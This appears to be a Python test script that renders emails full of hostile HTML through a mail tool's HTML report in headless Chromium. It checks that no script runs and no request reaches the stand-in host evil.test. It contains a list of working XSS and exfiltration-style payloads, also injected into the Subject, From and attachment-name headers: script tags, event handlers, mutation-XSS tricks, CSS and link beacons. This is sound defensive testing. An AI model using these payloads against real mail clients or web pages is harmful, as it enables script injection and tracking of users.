"""The page of `mimicryd explain --html` in headless Chromium: hostile mails reach nothing and run nothing.

Every name leads to a server here, which takes down what is asked of it. A page with a picture in it shows first that a request
would be seen. Then the page of hostile mails is opened at two widths, light and dark; nothing may be asked for, no name looked
up, and no script of a mail may have run. The page of ordinary mails must show before and after.

usage: look.py MIMICRYD ROOT WORK CHROMIUM
"""

import http.server
import pathlib
import subprocess
import sys
import threading

MIMICRYD, ROOT, WORK, CHROMIUM = sys.argv[1], pathlib.Path(sys.argv[2]), pathlib.Path(sys.argv[3]), sys.argv[4]

# Each would, in a page that is not careful, ask for something at evil.test, or put EVIL into the title.
ACT = "parent.document.title=document.title='EVIL';new Image().src='http://evil.test/ran'"
HOSTILE = {
    "script": f"<script>{ACT}</script><p>x",
    "script-src": "<script src=http://evil.test/s.js></script>",
    "onerror": f"<img src=http://evil.test/p.gif onerror=\"{ACT}\"><img src=x onerror=\"{ACT}\">",
    "svg": f"<svg onload=\"{ACT}\"><image href=http://evil.test/i.svg /></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={ACT}&gt;\">",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={ACT}>\"></noscript>",
    "breakout": f"\"></iframe><script>{ACT}</script><img src=http://evil.test/b>",
    "entities": f"&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{ACT}&lt;/script&gt;",
    "css": "<style>@import 'http://evil.test/a.css';body{background:url(http://evil.test/c)}p{background:u\\72l(http://evil.test/d);"
    "list-style:image-set('http://evil.test/e' 1x)}@font-face{font-family:x;src:url(http://evil.test/f)}</style><p style=\"font-family:x\">x",
    "style": "<p style=\"background-image:url('http://evil.test/g')\">x<table background=http://evil.test/h><tr><td>x</table>",
    "link": "<link rel=stylesheet href=http://evil.test/l.css><link rel=preload as=image href=http://evil.test/m>"
    "<link rel=prefetch href=http://evil.test/n><link rel=preconnect href=http://evil.test><link rel=dns-prefetch href=//evil.test>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.test/r'><base href=http://evil.test/><img src=q.gif>",
    "frames": f"<iframe src=http://evil.test/fr></iframe><iframe srcdoc=\"<script>{ACT}</script>\"></iframe><object data=http://evil.test/o></object>"
    "<embed src=http://evil.test/em><frameset><frame src=http://evil.test/fs></frameset>",
    "media": "<video poster=http://evil.test/po src=http://evil.test/v autoplay></video><audio src=http://evil.test/a autoplay></audio>"
    "<picture><source srcset=http://evil.test/pi><img srcset='http://evil.test/ss 1x'></picture>",
    "form": f"<form action=http://evil.test/fo id=f><input autofocus onfocus=\"{ACT}\"><input type=image src=http://evil.test/in></form>",
    "details": f"<details open ontoggle=\"{ACT}\"><summary>x</summary></details><body onload=\"{ACT}\">",
    "links": "<a href=\"javascript:alert(1)\" ping=http://evil.test/pg>x</a><a href=http://evil.test/hr>y</a>",
    "template": f"<template><script>{ACT}</script></template><plaintext><script>{ACT}</script>",
}


def mail(name, html):
    subject = f"{name} </title><script>{ACT}</script><img src=http://evil.test/subject>"
    return (
        f"From: \"<img src=http://evil.test/from>\" <anna@example.org>\r\nTo: tom@example.net\r\nSubject: {subject}\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"{html}\r\n--b\r\nContent-Type: image/png; name=\"<img src=http://evil.test/name>.png\"\r\nContent-Disposition: attachment\r\n\r\nx\r\n--b--\r\n"
    )


asked = []


class Server(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        # The browser has errands of its own.
        if self.headers.get("Host", "").startswith("evil.test"):
            asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_GET

    def log_message(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server)
threading.Thread(target=server.serve_forever, daemon=True).start()


def explain(page, *mails):
    run = subprocess.run(
        [MIMICRYD, "explain", "-c", str(ROOT / "etc/test/mimicry.toml"), "--html", str(page), *map(str, mails)],
        capture_output=True, text=True, timeout=120,
    )
    assert run.returncode == 0, run.stderr


def browse(page, *options):
    """What Chromium makes of the page, and what it did on the network."""
    log = WORK / "net.json"
    run = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--no-first-run", "--disable-background-networking",
         f"--user-data-dir={WORK / 'profile'}", f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_port}", f"--log-net-log={log}",
         "--virtual-time-budget=3000", *options, page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )
    return run.stdout, log.read_text(errors="replace")


# A request would be seen.
control = WORK / "control.html"
control.write_text("<!doctype html><title>ok</title><img src=http://evil.test/control><script>document.title='EVIL'</script>")
dom, log = browse(control, "--dump-dom")
assert "/control" in asked and "evil.test" in log and "<title>EVIL" in dom, (asked, dom)
asked.clear()

mails = []
for name, html in HOSTILE.items():
    path = WORK / f"{name}.eml"
    path.write_bytes(mail(name, html).encode())
    mails.append(path)
page = WORK / "hostile.html"
explain(page, *mails)
for options in [["--window-size=1280,4000"], ["--window-size=500,6000"], ["--force-dark-mode", "--window-size=1280,4000"]]:
    dom, log = browse(page, "--dump-dom", *options)
    assert "<title>What the rules do</title>" in dom, f"a script has run: {dom[:400]}"
    assert dom.count("<iframe") >= 2 * len(HOSTILE), "frames are missing"
    assert not asked, f"asked for {asked}"
    assert '"http://evil.test' not in log and "evil.test:80" not in log, "a name was looked up"
print(f"{len(HOSTILE)} hostile mails: nothing was asked for, nothing ran")

page = WORK / "mails.html"
explain(page, ROOT / "etc/test")
dom, log = browse(page, "--dump-dom")
for piece in ["As it came, HTML", "As it leaves, HTML", "As it came, plain", "Example Ltd", "data:image/png;base64,", "badge unchanged"]:
    assert piece in dom, piece
assert not asked and dom.count("<article") == 20, (asked, dom.count("<article"))
for name, options in {
    "wide-light": ["--window-size=1280,3000"],
    "narrow-light": ["--window-size=500,4000"],
    "wide-dark": ["--window-size=1280,3000", "--blink-settings=preferredColorScheme=0"],
}.items():
    picture = WORK / f"{name}.png"
    browse(page, f"--screenshot={picture}", *options)
    assert picture.stat().st_size > 20_000, f"{name}: nothing is shown"
print("the page of the samples shows before and after")
